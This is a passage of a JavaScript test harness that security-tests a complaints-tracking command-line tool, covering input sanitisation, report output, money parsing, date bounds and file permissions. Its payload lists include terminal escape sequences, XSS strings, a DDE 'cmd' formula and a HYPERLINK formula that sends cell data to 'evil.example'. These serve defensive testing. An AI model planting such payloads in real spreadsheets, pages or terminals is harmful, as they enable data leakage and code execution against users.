  { f: 'log --phone', cmd: (v) => logArgs({ '--phone': v }), wrap: (s) => ['13800', s, '000'] },
  { f: 'log --address', cmd: (v) => logArgs({ '--address': v }) },
  { f: 'log --org', cmd: (v) => logArgs({ '--org': v }) },
  { f: 'log --subject', cmd: (v) => logArgs({ '--subject': v }) },
  { f: 'log --description', long: true, cmd: (v) => logArgs({ '--description': v }) },
  { f: 'log --demand', long: true, cmd: (v) => logArgs({ '--demand': v }) },
  { f: 'log --product', cmd: (v) => logArgs({ '--product': v }) },
  { f: 'log --batch', cmd: (v) => logArgs({ '--batch': v }) },
  { f: 'log --unit', cmd: (v) => logArgs({ '--unit': v }) },
  { f: 'log --to', cmd: (v) => logArgs({ '--unit': 'Logistics', '--to': v }) },
  { f: 'note --message', long: true, ticket: 'C2026-00002', cmd: (v) => ['note', 'C2026-00002', '--message', v, '--at', AT] },
  { f: 'reply --message', long: true, ticket: 'C2026-00002', cmd: (v) => ['reply', 'C2026-00002', '--via', 'phone', '--message', v, '--at', AT] },
  { f: 'close --resolution', long: true, ticket: 'C2026-00002', cmd: (v) => ['close', 'C2026-00002', '--resolution', v, '--fault', 'company', '--at', AT] },
  { f: 'close --root-cause', long: true, ticket: 'C2026-00002', cmd: (v) => ['close', 'C2026-00002', '--resolution', 'ok', '--fault', 'company', '--root-cause', v, '--at', AT] },
  { f: 'close --action', long: true, ticket: 'C2026-00002', cmd: (v) => ['close', 'C2026-00002', '--resolution', 'ok', '--fault', 'company', '--action', v, '--at', AT] },
  { f: 'extend --reason', long: true, ticket: 'C2026-00002', cmd: (v) => ['extend', 'C2026-00002', '--to', '2026-12-20', '--reason', v, '--at', AT] },
  { f: 'reopen --reason', long: true, ticket: 'C2026-00003', cmd: (v) => ['reopen', 'C2026-00003', '--reason', v, '--at', AT] },
  { f: 'hold --note', long: true, ticket: 'C2026-00002', cmd: (v) => ['hold', 'C2026-00002', '--reason', 'waiting-customer', '--note', v, '--at', AT] },
  { f: 'survey --comment', long: true, ticket: 'C2026-00003', cmd: (v) => ['survey', 'C2026-00003', '--score', '3', '--comment', v, '--at', AT] },
  { f: 'assign --unit', ticket: 'C2026-00001', cmd: (v) => ['assign', 'C2026-00001', '--unit', v, '--at', AT] },
  { f: 'assign --to', ticket: 'C2026-00001', cmd: (v) => ['assign', 'C2026-00001', '--unit', 'Logistics', '--to', v, '--at', AT] },
  { f: '--as', ticket: 'C2026-00002', cmd: (v) => ['--as', v, 'note', 'C2026-00002', '--message', 'as test', '--at', AT], wrap: (s) => ['clerk', s, 'x'] },
  { f: 'COMPLAINTS_USER', ticket: 'C2026-00002', env: true, cmd: () => ['note', 'C2026-00002', '--message', 'user test', '--at', AT], wrap: (s) => ['clerk', s, 'x'] },
];
const RANGE_FIELDS = new Set(['log --subject', 'log --description', 'log --email', '--as', 'COMPLAINTS_USER']);

function logArgs(over) {
  const base = { '--name': 'Zhang', '--phone': '13800000000', '--channel': 'phone', '--category': 'other', '--subject': 'subject', '--at': AT };
  const m = { ...base, ...over };
  const a = ['log'];
  for (const [k, v] of Object.entries(m)) if (v !== null) a.push(k, v);
  a.push('--yes');
  return a;
}

/** Builds the value (string, or Buffer for raw bytes) a field receives for a payload. */
function payloadValue(field, payload) {
  const wrap = field.wrap ?? W;
  if (typeof payload === 'string') return wrap(payload).join('');
  if (payload.only) return payload.only;
  const [a, , b] = wrap('');
  return Buffer.concat([Buffer.from(a), Buffer.from(payload.bytes), Buffer.from(b)]);
}

function allStrings(v, acc = []) {
  if (typeof v === 'string') acc.push(v);
  else if (Array.isArray(v)) v.forEach((x) => allStrings(x, acc));
  else if (v && typeof v === 'object') Object.values(v).forEach((x) => allStrings(x, acc));
  return acc;
}

function payloadChars(payload) {
  if (typeof payload === 'string') return payload;
  if (payload.only) return payload.only;
  return '\ufffd';
}

category(2, 'escape/control injection at input', async (cat) => {
  const tpl = await mainTemplate();
  const cases = [];
  const seen = new Set();
  const add = (field, [pname, payload]) => {
    const id = `${field.f} × ${pname}`;
    if (seen.has(id)) return;
    seen.add(id);
    cases.push({
      id, desc: id, run: async () => {
        const p = [];
        const dir = caseDir('inj');
        const db = copyDb(tpl, dir);
        const v = payloadValue(field, payload);
        const args = field.cmd(v);
        const env = field.env ? { COMPLAINTS_USER: v } : {};
        const before = fingerprint(db);
        const r = await cli(db, args, { env });
        const after = fingerprint(db);
        basic(r, p);
        const chars = payloadChars(payload);
        const isNlTab = typeof payload === 'string' && /^[\n\t]$/.test(payload);
        const isZw = typeof payload === 'object' && payload.only;
        const isMark = typeof payload === 'string' && /^[\u200e\u200f]$/.test(payload);
        if (r.code === 2) {
          oneLine(r, p);
          const d = fpDiff(before, after);
          if (d) p.push(d);
          cleanOutput(r, p);
          return p;
        }
        if (r.code !== 0) {
          exitIs(r, [2], p);
          oneLine(r, p);
          const d = fpDiff(before, after);
          if (d) p.push(d);
          return p;
        }
        // accepted: allowed only for newline/tab in long text, zero-width-only input that was
        // dropped, and (tolerated) LRM/RLM that never reaches human output raw.
        let stored = '';
        try {
          const ev = dbQuery(db, 'SELECT actor, details, changes FROM events ORDER BY id DESC LIMIT 1')[0];
          stored = ev ? [ev.actor, ...allStrings(JSON.parse(ev.details)), ...allStrings(JSON.parse(ev.changes))].join('\u0001') : '';
        } catch { /* ignore */ }
        const storedRaw = [...chars].some((ch) => stored.includes(ch));
        // A CR in long text may be normalised to a line break (a CRLF pasted from Windows): fine
        // as long as no CR is stored.
        const isCrNormalised = field.long && [...chars].every((ch) => ch === '\r') && !storedRaw;
        const legit = (isNlTab && field.long) || isZw || isMark || isCrNormalised;
        if (!legit) {
          p.push(`accepted (exit 0)${storedRaw ? ', stored raw' : ''}`);
          return p;
        }
        if (isZw && storedRaw) { p.push('zero-width-only value accepted and stored'); return p; }
        const no = field.ticket ?? /C\d{4}-\d{5}/.exec(r.out)?.[0];
        if (no) {
          const s = await cli(db, ['show', no, '--as-of', ASOF]);
          basic(s, p, 'show');
          exitIs(s, [0], p, 'show');
          cleanOutput(s, p, 'show');
        }
        cleanOutput(r, p);
        await integrityAndVerify(db, p);
        return p;
      },
    });
  };
  for (const field of FIELDS) {
    for (const pl of NAMED_PAYLOADS) add(field, pl);
    if (RANGE_FIELDS.has(field.f)) for (const pl of RANGE_PAYLOADS) add(field, pl);
  }
  await runCases(cat, cases);
});

// ================================================================================================
// 3. output neutralisation of hostile text already in the file

const HOSTILE = [
  ['ESC[2J', '\x1b[2J\x1b[H'], ['OSC title', '\x1b]0;pwned\x07'], ['SGR', '\x1b[31mRED\x1b[0m'], ['CR', 'over\rwrite'],
  ['BEL', '\x07'], ['BS', '\x08\x08'], ['DEL', '\x7f'], ['VT FF', '\x0b\x0c'], ['NUL', '\x00'], ['CSI U+009B', '\u009b2J'],
  ['NEL U+0085', '\u0085'], ['OSC U+009D', '\u009d0;t\u009c'], ['RLO U+202E', '\u202e'], ['LRI..PDI', '\u2066x\u2069'], ['RLM U+200F', '\u200f'],
  ['DCS', '\x1bPq#0\x1b\\'],
];

function eventHashOf(prev, row) {
  const head = JSON.stringify([row.ticket_id, row.at, row.recorded_at, row.actor, row.kind]);
  return crypto.createHash('sha256').update(prev).update('\n').update(`${head.slice(0, -1)},${row.details},${row.changes}]`).digest('hex');
}

/** Plants hostile text as an older file would carry it. Ticket 1: valid, hash-chained note events
 * with a hostile actor and message. Tickets 2 and 3: hostile row + snapshot fields. Calendar: a
 * holiday whose source is hostile. */
function plantHostile(db, P) {
  const d = new Database(db);
  try {
    d.transaction(() => {
      const prev = d.prepare('SELECT id, hash FROM events ORDER BY id DESC LIMIT 1').get();
      let head = prev.hash;
      let id = prev.id;
      for (const [i, msg] of [`note ${P} end`, `second${P}\nline two`].entries()) {
        const row = { ticket_id: 1, at: Date.UTC(2026, 10, 16, 3, 10 + i), recorded_at: Date.UTC(2026, 10, 16, 3, 10 + i), actor: `clerk${P}x`, kind: 'noted', details: JSON.stringify({ message: msg }), changes: '{}' };
        const hash = eventHashOf(head, row);
        const r = d.prepare('INSERT INTO events (ticket_id, at, recorded_at, actor, kind, details, changes, prev_hash, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)')
          .run(row.ticket_id, row.at, row.recorded_at, row.actor, row.kind, row.details, row.changes, head, hash);
        id = Number(r.lastInsertRowid);
        head = hash;
      }
      d.prepare("UPDATE settings SET value = ? WHERE key = 'event_chain_head'").run(JSON.stringify({ event: id, hash: head }));
      const t2 = JSON.parse(d.prepare('SELECT snapshot FROM tickets WHERE id = 2').get().snapshot);
      Object.assign(t2, { subject: `subj${P}x`, description: `desc${P}x\nline2`, demand: `dem${P}x`, unit: `unit${P}x`, assignee: `hdl${P}x`, product: `prod${P}`, batch: `b${P}`, loggedBy: `clerk${P}` });
      Object.assign(t2.complainant, { name: `name${P}x`, email: `e${P}@x.example`, address: `addr${P}`, org: `org${P}` });
      d.prepare('UPDATE tickets SET subject = ?, description = ?, demand = ?, unit = ?, assignee = ?, complainant_name = ?, snapshot = ? WHERE id = 2')
        .run(t2.subject, t2.description, t2.demand, t2.unit, t2.assignee, t2.complainant.name, JSON.stringify(t2));
      const t3 = JSON.parse(d.prepare('SELECT snapshot FROM tickets WHERE id = 3').get().snapshot);
      Object.assign(t3, { resolution: `res${P}x`, rootCause: `rc${P}`, action: `act${P}`, unit: `u3${P}` });
      d.prepare('UPDATE tickets SET unit = ?, snapshot = ? WHERE id = 3').run(t3.unit, JSON.stringify(t3));
      d.prepare("INSERT OR REPLACE INTO calendar_days (date, kind, source) VALUES ('2026-12-24', 'holiday', ?)").run(`ics evil${P}.ics`);
    })();
  } finally {
    d.close();
  }
}

category(3, 'output neutralisation of hostile stored text', async (cat) => {
  const cases = [];
  // base made by the OLD build (an older file), then one hostile copy per payload
  const base = await makeTemplate('hostile-base', { bin: REF_BIN, warm: false });
  for (const [pname, P] of HOSTILE) {
    const dir = path.join(WORK, 'tpl', `hostile-${HOSTILE.findIndex((h) => h[0] === pname)}`);
    fs.mkdirSync(dir, { recursive: true });
    const db = copyDb(base, dir);
    // ticket 5 through the old build's own input path: hostile actor and email (it accepted both)
    let t5 = false;
    if (!P.includes('\x00')) {
      for (const extra of [['--email', `x${P}y@evil.example`], []]) {
        const r = await cli(db, ['--as', `clerk${P}x`, 'log', '--name', 'E', '--phone', '13800000009', ...extra, '--channel', 'phone', '--category', 'other', '--subject', 'five', '--at', '2026-11-16 09:00', '--yes'], { bin: REF_BIN });
        if (r.code === 0) { t5 = true; break; }
      }
    }
    plantHostile(db, P);
    await cli(db, ['list', '--as-of', ASOF]); // upgrade once with the build under test (if it upgrades)
    const ics = path.join(dir, `h${P.replace(/[\x00/]/g, '')}.ics`);
    fs.writeFileSync(ics, 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1@x\r\nDTSTART;VALUE=DATE:20261231\r\nSUMMARY:h\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n');
    const cmds = [
      ['show C2026-00001 (hostile notes, actor)', ['show', 'C2026-00001', '--as-of', ASOF], [0]],
      ['show C2026-00001 --explain', ['show', 'C2026-00001', '--explain', '--as-of', ASOF], [0]],
      ['show C2026-00002 (hostile row)', ['show', 'C2026-00002', '--as-of', ASOF], [0]],
      ['show C2026-00002 --explain', ['show', 'C2026-00002', '--explain', '--as-of', ASOF], [0]],
      ['show C2026-00003 (hostile resolution)', ['show', 'C2026-00003', '--as-of', ASOF], [0]],
      ['list', ['list', '--as-of', ASOF], [0]],
      ['list --search subj', ['list', '--search', 'subj', '--as-of', ASOF], [0]],
      ['overdue', ['overdue', '--as-of', ASOF], [0]],
      ['report table', ['report', ...MONTH], [0]],
      ['report md', ['report', ...MONTH, '--format', 'md'], [0]],
      ['calendar show', ['calendar', 'show'], [0]],
      ['verify', ['verify'], [0, 1]],
      ['calendar import hostile file name', ['calendar', 'import', ics], [0, 1, 2], true],
    ];
    if (t5) cmds.push(['show C2026-00005 (actor/email via old build)', ['show', 'C2026-00005', '--as-of', ASOF], [0]]);
    for (const [cname, args, codes, writes] of cmds) {
      cases.push({
        id: `${cname} × ${pname}`, desc: `${cname} × ${pname}`, run: async () => {
          const p = [];
          let use = db;
          if (writes) use = copyDb(db, caseDir('hos'));
          const r = await cli(use, args);
          basic(r, p);
          exitIs(r, codes, p);
          cleanOutput(r, p);
          return p;
        },
      });
    }
  }
  await runCases(cat, cases);
});

// ================================================================================================
// 4. spreadsheet and markup injection

function parseCsv(text) {
  if (text.charCodeAt(0) === 0xfeff) text = text.slice(1);
  const rows = [];
  let row = [];
  let cell = '';
  let q = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (q) {
      if (c === '"') {
        if (text[i + 1] === '"') { cell += '"'; i += 2; continue; }
        q = false; i++; continue;
      }
      cell += c; i++; continue;
    }
    if (c === '"' && cell === '') { q = true; i++; continue; }
    if (c === ',') { row.push(cell); cell = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { i++; continue; }
    if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; continue; }
    cell += c; i++;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return { rows, unterminated: q };
}
const NUMERIC = /^-?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?%?$/;

function checkCsv(text, p) {
  const { rows, unterminated } = parseCsv(text);
  if (unterminated) p.push('csv: unterminated quoted cell');
  for (const row of rows) {
    for (const cell of row) {
      if (/^[=+\-@\t\r]/.test(cell) && !NUMERIC.test(cell)) { p.push(`csv: live formula cell "${esc(cell).slice(0, 60)}"`); return; }
    }
  }
}

/** Cell borders of a markdown table row: pipes not escaped by an odd run of backslashes. */
function mdBorders(line) {
  let n = 0;
  let bs = 0;
  for (const ch of line) {
    if (ch === '\\') { bs++; continue; }
    if (ch === '|' && bs % 2 === 0) n++;
    bs = 0;
  }
  return n;
}

/** A payload carrying markup must never appear verbatim in md/html output. */
function rawMarkup(text, payload) {
  return /[<>]/.test(payload) && text.includes(payload.trim());
}

function checkMd(text, p, payload) {
  if (/<script/i.test(text)) p.push('md: raw <script');
  else if (rawMarkup(text, payload)) p.push(`md: markup passed through raw: ${esc(payload).slice(0, 40)}`);
  let header = null;
  for (const line of text.split('\n')) {
    const t = line.trim();
    if (!t.startsWith('|')) { header = null; continue; }
    const pipes = mdBorders(t);
    if (header === null) header = pipes;
    else if (pipes !== header) { p.push(`md: row with ${pipes} cell borders, header has ${header}: ${esc(t).slice(0, 60)}`); return; }
  }
}

function checkHtml(text, p, payload) {
  if (/<script/i.test(text)) p.push('html: raw <script');
  else if (rawMarkup(text, payload)) p.push(`html: markup passed through raw: ${esc(payload).slice(0, 40)}`);
}

const UNIT_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1+1)', '-2+3', '@SUM(1)', '=1+1', '=cmd|\' /C calc\'!A0', '+1-1', '-A1', '@A1', '=',
  '\tx', '\t=1+1', '\rx', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'a</td><td>b', 'a|b', '|', '||x||', 'a\\|b', '**bold**|x',
  '"=1+1"', 'a,b', 'a"b', '-5', ' =1+1', 'Logistics',
];

category(4, 'spreadsheet/markup injection', async (cat) => {
  const tpl = await mainTemplate();
  const cases = [];
  UNIT_PAYLOADS.forEach((P, pi) => {
    for (const route of ['log --unit', 'assign --unit', 'planted row']) {
      let prepared = null;
      const prepare = async () => {
        const dir = caseDir('csv');
        const db = copyDb(tpl, dir);
        let accepted = true;
        let setupProblem = null;
        if (route === 'planted row') {
          const d = new Database(db);
          const s = JSON.parse(d.prepare('SELECT snapshot FROM tickets WHERE id = 1').get().snapshot);
          s.unit = P; s.status = 'assigned';
          d.prepare("UPDATE tickets SET unit = ?, status = 'assigned', snapshot = ? WHERE id = 1").run(P, JSON.stringify(s));
          d.close();
        } else {
          const args = route === 'log --unit'
            ? ['log', '--name', 'Z', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 'csv', '--unit', P, '--at', AT, '--yes']
            : ['assign', 'C2026-00001', '--unit', P, '--at', AT];
          const r = await cli(db, args);
          const q = [];
          basic(r, q);
          if (r.code !== 0) { exitIs(r, [2], q); oneLine(r, q); accepted = false; }
          if (q.length) setupProblem = `${route}: ${q.join('; ')}`;
        }
        return { db, accepted, setupProblem };
      };
      for (const fmt of ['csv', 'md', 'html']) {
        const id = `${route} ${esc(P)} → report ${fmt}`;
        cases.push({
          id, desc: id, run: async () => {
            prepared ??= prepare();
            const { db, accepted, setupProblem } = await prepared;
            const p = [];
            if (setupProblem) p.push(setupProblem);
            if (!accepted) return p; // refused at input: nothing to neutralise
            const r = await cli(db, ['report', ...MONTH, '--format', fmt]);
            basic(r, p);
            exitIs(r, [0], p);
            if (r.code === 0) {
              if (fmt === 'csv') checkCsv(r.out, p);
              if (fmt === 'md') checkMd(r.out, p, P);
              if (fmt === 'html') checkHtml(r.out, p, P);
            }
            return p;
          },
        });
      }
    }
    void pi;
  });
  await runCases(cat, cases);
});

// ================================================================================================
// 5. money

const MONEY = [
  // value, expected cents (null = must be refused, 'either' = refuse or exactly the cents given second)
  ['99,99', null], ['150,00', null], ['12,50', null], [',,,5', null], ['1,2345', null], ['1,,000', null], ['12,3', null], ['0,5', null],
  ['5,', null], [',5', null], ['1,000,00', null], ['1.234,56', null], ['1,234,5678', null], ['12.345', null], ['1.5.0', null],
  ['-1', null], ['-0.01', null], ['1e3', null], ['1E3', null], ['Infinity', null], ['NaN', null], ['0x10', null], ['12.5.0', null],
  ['1e-2', null], ['12..5', null], ['1,23,456', null], ['12 345', null], ['', null], ['€12', null],
  ['12,345.50', 1234550], ['1,200', 120000], ['0.5', 50], ['12.50', 1250], ['10000', 1000000], ['10,000', 1000000], ['9999.99', 999999],
  ['9,999.99', 999999], ['500', 50000], ['499.99', 49999], ['1,234,567.89', 123456789], ['0', 0], ['25', 2500],
  [' 12 ', ['either', 1200]],
];

function severityFor(cents) { return cents >= 1000000 ? 'major' : cents >= 50000 ? 'important' : 'general'; }

category(5, 'money', async (cat) => {
  const tpl = await mainTemplate();
  const cases = [];
  for (const [value, expect] of MONEY) {
    for (const route of ['log --amount', 'close --compensation']) {
      const id = `${route} "${value}"`;
      cases.push({
        id, desc: id, run: async () => {
          const p = [];
          const db = copyDb(tpl, caseDir('money'));
          const args = route === 'log --amount'
            ? ['log', '--name', 'M', '--phone', '13800000000', '--channel', 'phone', '--category', 'billing', '--subject', 'money', '--amount', value, '--at', AT, '--yes']
            : ['close', 'C2026-00002', '--resolution', 'paid', '--fault', 'company', '--compensation', value, '--compensation-kind', 'cash', '--at', AT];
          const before = fingerprint(db);
          const r = await cli(db, args);
          const after = fingerprint(db);
          const cents = Array.isArray(expect) ? expect[1] : expect;
          const mayRefuse = expect === null || Array.isArray(expect);
          if (expect === null || (mayRefuse && r.code !== 0)) {
            refused(r, [2], p, before, after);
            if (r.code === 0) {
              const no = /C\d{4}-\d{5}/.exec(r.out)?.[0] ?? 'C2026-00002';
              const s = await cli(db, ['show', no, '--json']);
              try {
                const j = JSON.parse(s.out);
                const amt = route === 'log --amount' ? j.amount : j.compensation?.amount;
                p.push(`stored as ${amt}${route === 'log --amount' ? ` (severity ${j.severity_suggested})` : ''}`);
              } catch { /* ignore */ }
            }
            return p;
          }
          basic(r, p);
          exitIs(r, [0], p);
          if (r.code !== 0) return p;
          const no = /C\d{4}-\d{5}/.exec(r.out)?.[0] ?? 'C2026-00002';
          const s = await cli(db, ['show', no, '--json']);
          basic(s, p, 'show');
          let j = null;
          try { j = JSON.parse(s.out); } catch { p.push('show --json: not JSON'); }
          if (j) {
            const amt = route === 'log --amount' ? j.amount : j.compensation?.amount;
            if (typeof amt !== 'number' || Math.round(amt * 100) !== cents) p.push(`stored ${amt}, expected ${(cents / 100).toFixed(2)}`);
            if (route === 'log --amount' && j.severity_suggested !== severityFor(cents)) p.push(`suggested severity ${j.severity_suggested}, expected ${severityFor(cents)}`);
          }
          await integrityAndVerify(db, p);
          return p;
        },
      });
    }
  }
  await runCases(cat, cases);
});

// ================================================================================================
// 6. bounds

category(6, 'bounds (times and numbers out of range)', async (cat) => {
  const tpl = await mainTemplate();
  const berlin = await makeTemplate('berlin', {
    pre: [['calendar', 'timezone', 'set', 'Europe/Berlin']],
    steps: [
      ['log', '--name', 'A', '--phone', '13800000000', '--channel', 'phone', '--category', 'delivery', '--subject', 's1', '--at', '2026-03-20 10:00', '--yes'],
      ['log', '--name', 'B', '--phone', '13800000001', '--channel', 'phone', '--category', 'delivery', '--subject', 's2', '--unit', 'Logistics', '--at', '2026-03-20 11:00', '--yes'],
    ],
  });
  const cases = [];
  // expect: 2 = refused as bad input; 'either' = refused (2) or accepted cleanly (0); 0 = accepted
  const B = (id, args, expect, o = {}) => cases.push({
    id, desc: id, run: async () => {
      const p = [];
      const db = copyDb(o.tpl ?? tpl, caseDir('bnd'));
      const before = fingerprint(db);
      const r = await cli(db, args, { timeout: o.timeout ?? 20000 });
      const after = fingerprint(db);
      basic(r, p);
      const codes = expect === 'either' ? [0, 2] : Array.isArray(expect) ? expect : [expect];
      if (r.code !== 0) {
        exitIs(r, codes, p);
        oneLine(r, p);
        const d = fpDiff(before, after);
        if (d) p.push(d);
        return p;
      }
      exitIs(r, codes, p);
      // accepted: the receipt it printed must work, and the file must stay sound
      const no = /C\d{1,6}-\d{1,9}/.exec(r.out)?.[0];
      if (no) {
        const s = await cli(db, ['show', no, '--as-of', o.asOf ?? ASOF]);
        basic(s, p, `show ${no}`);
        if (s.code !== 0) p.push(`printed receipt ${no} but show ${no} exits ${s.code}: ${firstLine(s)}`);
      }
      if (expect !== 0 || o.verify) await integrityAndVerify(db, p);
      return p;
    },
  });
  const logAt = (at) => ['log', '--name', 'T', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 'time', '--at', at, '--yes'];
  for (const [v, e] of [['0001-01-01 10:00', 2], ['0000-01-01 10:00', 2], ['1000-01-01 09:00', 2], ['1899-12-31 10:00', 2], ['1999-12-31 10:00', 'either'], ['2000-01-03 10:00', 'either'], ['9999-12-31 10:00', 2], ['2026-02-30 10:00', 2], ['2026-11-16 24:00', 2], ['2026-11-16 10:60', 2], ['10000-01-01 10:00', 2]]) {
    B(`log --at "${v}"`, logAt(v), e);
    B(`log --received-at "${v}"`, [...logAt(AT), '--received-at', v], e);
    B(`note --at "${v}"`, ['note', 'C2026-00002', '--message', 'm', '--at', v], v.startsWith('1999') || v.startsWith('2000') ? 2 : e);
  }
  for (const [v, e] of [['0001-01-01', 2], ['1000-01-01', 2], ['1999-12-31', 'either'], ['2000-01-01', 'either'], ['9999-12-31', 2], ['9999-12-31 10:00', 2], ['2100-01-01', 'either'], ['0000-01-01', 2], ['2026-02-30', 2]]) {
    B(`log --due "${v}"`, [...logAt(AT), '--due', v], e);
    B(`extend --to "${v}"`, ['extend', 'C2026-00002', '--to', v, '--reason', 'r', '--at', AT], e);
  }
  const R = (flags) => ['report', '--as-of', ASOF, ...flags];
  for (const f of [['--year', '0999'], ['--year', '9999'], ['--year', '0000'], ['--year', '0001'], ['--year', '10000'], ['--month', '9999-12'], ['--month', '0000-01'], ['--month', '0001-01'],
    ['--month', '2026-13'], ['--month', '2026-00'], ['--week', '0001-W01'], ['--week', '9999-W52'], ['--week', '2026-W54'], ['--week', '2026-W00'],
    ['--quarter', '0001-Q1'], ['--quarter', '9999-Q4'], ['--quarter', '2026-Q5'], ['--from', '0001-01-01', '--to', '9999-12-31'],
    ['--from', '2026-01-01', '--to', '9999-12-31'], ['--from', '0001-01-01', '--to', '2026-01-01'], ['--from', '0000-01-01', '--to', '2026-01-01']]) {
    for (const fmt of ['table', 'json']) B(`report ${f.join(' ')} --format ${fmt}`, [...R(f), '--format', fmt], 2);
  }
  B('report --month 2026-11 --as-of "0001-01-01 00:00"', ['report', '--month', '2026-11', '--as-of', '0001-01-01 00:00'], 2);
  B('report --month 2026-11 --as-of "9999-12-31 00:00"', ['report', '--month', '2026-11', '--as-of', '9999-12-31 00:00'], 2);
  B('show --as-of "0001-01-01 00:00"', ['show', 'C2026-00002', '--as-of', '0001-01-01 00:00'], 2);
  B('list --as-of "0001-01-01 00:00"', ['list', '--as-of', '0001-01-01 00:00'], 2);
  B('overdue --as-of "0001-01-01 00:00"', ['overdue', '--as-of', '0001-01-01 00:00'], 2);
  for (const d of ['99999999999wd', '0wd', '-1wd', '99999999wh', '1e9wd', '999999d', '0m', '99999999999m', 'wd']) {
    B(`sla set resolve general ${d}`, ['sla', 'set', 'resolve', 'general', d], 2);
  }
  B('sla set first_reply general 99999999999wh', ['sla', 'set', 'first_reply', 'general', '99999999999wh'], 2);
  for (const w of ['99999999wd', '99999999999h', '-1wd', '0x10wd', '99999999999999999999m']) B(`overdue --within ${w}`, ['overdue', '--as-of', ASOF, '--within', w], 2);
  for (const l of ['99999999999', '0', '-1', '1e3', '1.5']) B(`list --limit ${l}`, ['list', '--as-of', ASOF, '--limit', l], 2);
  // demo fills only an empty database: a separate, initialised, empty file
  const empty = await emptyTemplate();
  for (const [n, e] of [['99999999999', 2], ['-1', 2], ['1e9', 2], ['99999999999999999999', 2]]) B(`demo --tickets ${n} (empty db)`, ['demo', '--tickets', n, '--as-of', ASOF], e, { timeout: 20000, tpl: empty });
  B('demo --months 99999999 (empty db)', ['demo', '--tickets', '10', '--months', '99999999', '--as-of', ASOF], 2, { tpl: empty });
  B('demo --as-of "0001-01-01 00:00" (empty db)', ['demo', '--tickets', '10', '--as-of', '0001-01-01 00:00'], 2, { tpl: empty });
  B('demo --as-of "9999-12-31 00:00" (empty db)', ['demo', '--tickets', '10', '--as-of', '9999-12-31 00:00'], 2, { tpl: empty });
  for (const d of ['0000-01-01', '9999-12-31', '0001-01-01', '0000-01-01..9999-12-31', '2026-01-01..9999-12-31', '2026-02-30']) {
    B(`calendar holiday add ${d}`, ['calendar', 'holiday', 'add', d], 2, { timeout: 20000 });
    B(`calendar workday add ${d}`, ['calendar', 'workday', 'add', d], 2, { timeout: 20000 });
  }
  for (const y of ['0000', '9999', '0001']) {
    B(`calendar show --year ${y}`, ['calendar', 'show', '--year', y], 2);
    B(`calendar preset cn ${y}`, ['calendar', 'preset', 'cn', y], [1, 2]);
  }
  // DST in Europe/Berlin
  const bo = { tpl: berlin, asOf: '2026-11-20 18:00' };
  for (const t of ['2026-03-29 02:30', '2026-03-29 02:00', '2026-03-29 02:59']) {
    B(`Berlin: log --at "${t}" (DST gap)`, logAt(t), 2, bo);
    B(`Berlin: log --received-at "${t}" (DST gap)`, [...logAt('2026-04-01 10:00'), '--received-at', t], 2, bo);
    B(`Berlin: note --at "${t}" (DST gap)`, ['note', 'C2026-00001', '--message', 'm', '--at', t], 2, bo);
    B(`Berlin: reply --at "${t}" (DST gap)`, ['reply', 'C2026-00002', '--via', 'phone', '--message', 'm', '--at', t], 2, bo);
  }
  B('Berlin: extend --to "2027-03-28 02:30" (DST gap)', ['extend', 'C2026-00002', '--to', '2027-03-28 02:30', '--reason', 'r', '--at', '2026-04-01 10:00'], 2, bo);
  B('Berlin: log --due "2027-03-28 02:30" (DST gap)', [...logAt('2026-04-01 10:00'), '--due', '2027-03-28 02:30'], 2, bo);
  B('Berlin: report --as-of "2026-03-29 02:30" (DST gap)', ['report', '--month', '2026-03', '--as-of', '2026-03-29 02:30'], 2, bo);
  B('Berlin: log --at "2026-03-29 03:00" (after the gap, allowed)', logAt('2026-03-29 03:00'), 0, { ...bo, verify: true });
  B('Berlin: log --at "2026-10-25 02:30" (fall-back, ambiguous, allowed)', logAt('2026-10-25 02:30'), 0, { ...bo, verify: true });
  B('Berlin: note --at "2026-10-25 02:30" (fall-back, allowed)', ['note', 'C2026-00001', '--message', 'm', '--at', '2026-10-25 02:30'], 0, { ...bo, verify: true });
  B('Berlin: log --at "2026-10-25 01:59" (allowed)', logAt('2026-10-25 01:59'), 0, { ...bo, verify: true });
  await runCases(cat, cases);
});

// ================================================================================================
// 7. permissions, as an unprivileged user

const SWEEPUSER = 'sweepuser';
const PERM_RE = /permission|read-?only|not writable|writable|write access|cannot write|may not write|not readable|cannot read|read access/i;

category(7, 'files and permissions (unprivileged user)', async (cat) => {
  if (process.getuid() !== 0) { cat.untestable = 'not running as root (needs useradd and runuser)'; return; }
  let created = false;
  if (sh(`id -u ${SWEEPUSER}`).code !== 0) {
    const u = sh(`useradd -M -s /usr/sbin/nologin ${SWEEPUSER}`);
    if (u.code !== 0) { cat.untestable = `useradd failed: ${short(u.err)}`; return; }
    created = true;
    CLEANUP.user = SWEEPUSER;
  }
  const buildCopy = path.join(os.tmpdir(), `sweep-build-${process.pid}`);
  try {
    fs.rmSync(buildCopy, { recursive: true, force: true });
    const t = sh(`mkdir -p ${shq(buildCopy)} && tar -C ${shq(BUILD)} --exclude=.git -cf - . | tar -C ${shq(buildCopy)} -xf - && chmod -R a+rX ${shq(buildCopy)}`);
    if (t.code !== 0) { cat.untestable = `cannot copy the build: ${short(t.err)}`; return; }
    const bin = path.join(buildCopy, 'bin', 'complaints.js');
    const tpl = await mainTemplate();
    const uid = Number(sh(`id -u ${SWEEPUSER}`).out.trim());
    const gid = Number(sh(`id -g ${SWEEPUSER}`).out.trim());
    const userDir = () => {
      const d = caseDir('perm');
      fs.chownSync(d, uid, gid);
      fs.chmodSync(d, 0o755);
      return d;
    };
    const cases = [];
    const as = (db, args, o = {}) => cliAs(SWEEPUSER, bin, db, args, o);
    const modeStr = (m) => `0${(m & 0o777).toString(8)}`;

    // a. a pre-existing empty file becomes the database
    for (const pre of [0o644, 0o666, 0o600, 0o640]) {
